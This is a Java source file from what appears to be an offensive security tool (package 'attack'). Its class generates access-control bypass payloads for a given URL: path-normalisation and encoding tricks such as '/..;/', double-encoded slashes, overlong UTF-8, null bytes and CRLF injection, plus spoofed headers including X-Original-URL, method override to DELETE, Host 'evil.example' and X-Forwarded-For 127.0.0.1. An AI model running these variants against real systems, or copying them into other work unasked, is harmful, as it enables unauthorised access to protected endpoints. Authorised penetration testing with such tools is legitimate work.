package org.homestretch.attack;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;

/** Other ways to write an address, by which something in front of a program or in it may lose its way. */
final class Variants {

    /**
     * @param target as it stands in the request's first line
     * @param headers beside the usual ones
     */
    record Variant(String target, Map<String, String> headers) {}

    private static final List<String> BEHIND = List.of(
            "/",
            "//",
            "/.",
            "/./",
            "/..",
            "/x/..",
            "/..;/",
            "/;",
            ";",
            ";x=1",
            ";jsessionid=1",
            "?x=1",
            "%20",
            "%00",
            "%0a",
            "%0d%0aX:1",
            "%09",
            "%2f",
            "%252f",
            "%5c",
            "%3b",
            "%3f",
            "%23",
            ".",
            ".json",
            ".html",
            "~",
            "\\",
            "/%2e",
            "/%2e%2e/x",
            "%c0%af",
            "/*",
            "/null",
            "\u0000");
    private static final List<String> BEFORE = List.of(
            "/.",
            "/",
            "//",
            "/x/..",
            "/x/%2e%2e",
            "/%2e",
            "/;",
            "/;x=1",
            "\\",
            "/%5c",
            "/%2f",
            "/login/..",
            "/login/..;",
            "/login/%2e%2e",
            "/login;/..",
            "/assets/..",
            "/assets/..;",
            "/assets/%2e%2e",
            "/assets/..%2f",
            "/assets/x/../..",
            "/portal/assets/../..",
            "/error/..",
            "/favicon.ico/..",
            "http://localhost",
            "http://localhost:1",
            "http://evil.example");
    private static final List<String> BETWEEN = List.of(
            "//", "/./", "/x/../", "/;/", ";x=1/", "/%2e/", "%2f", "%252f", "\\", "%5c", "/..;/x/", "%c0%af", "/\t");
    private static final List<String> HEADERS = List.of(
            "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix", "X-Forwarded-Uri", "X-Original-URI", "Referer");

    private Variants() {}

    static Stream<Variant> of(String address) {
        var query = address.contains("?") ? address.substring(address.indexOf('?')) : "";
        var path = address.substring(0, address.length() - query.length());
        return Stream.of(
                        written(path).map(it -> plain(it + (it.contains("?") ? query.replace('?', '&') : query))),
                        headed(address))
                .flatMap(it -> it);
    }

    private static Stream<String> written(String path) {
        var letter = path.length() > 1 ? Integer.toHexString(path.charAt(1)) : "2f";
        var first = path.length() > 1 ? path.substring(2) : "";
        return Stream.of(
                        BEHIND.stream().map(it -> path + it),
                        BEFORE.stream().map(it -> it + path),
                        BETWEEN.stream().flatMap(it -> Stream.of(replaceLast(path, it), replaceSecond(path, it))),
                        Stream.of(
                                path.toUpperCase(Locale.ROOT),
                                capital(path),
                                "/%" + letter + first,
                                "/%25" + letter + first,
                                path + "/" + "x".repeat(7000),
                                "/" + "x/../".repeat(1200) + path.substring(1)))
                .flatMap(it -> it)
                .filter(it -> !it.equals(path))
                .distinct();
    }

    private static Stream<Variant> headed(String address) {
        var elsewhere = HEADERS.stream()
                .flatMap(it ->
                        Stream.of("/", "/login", "/favicon.svg").map(to -> new Variant(to, Map.of(it, address))));
        var here = Stream.of(
                        Map.of("X-HTTP-Method-Override", "POST"),
                        Map.of("X-Method-Override", "DELETE"),
                        Map.of("Host", "evil.example"),
                        Map.of("Host", "localhost:1"),
                        Map.of("X-Forwarded-Host", "evil.example"),
                        Map.of("X-Forwarded-For", "127.0.0.1"),
                        Map.of("X-Forwarded-Proto", "https"),
                        Map.of("Forwarded", "for=127.0.0.1;host=localhost"))
                .map(it -> new Variant(address, it));
        return Stream.concat(elsewhere, here);
    }

    private static Variant plain(String target) {
        return new Variant(target, Map.of());
    }

    private static String capital(String path) {
        return path.length() < 2 ? path : "/" + Character.toUpperCase(path.charAt(1)) + path.substring(2);
    }

    private static String replaceLast(String path, String by) {
        var at = path.lastIndexOf('/');
        return at <= 0 ? path : path.substring(0, at) + by + path.substring(at + 1);
    }

    private static String replaceSecond(String path, String by) {
        var at = path.indexOf('/', 1);
        return at < 0 ? path : path.substring(0, at) + by + path.substring(at + 1);
    }
}
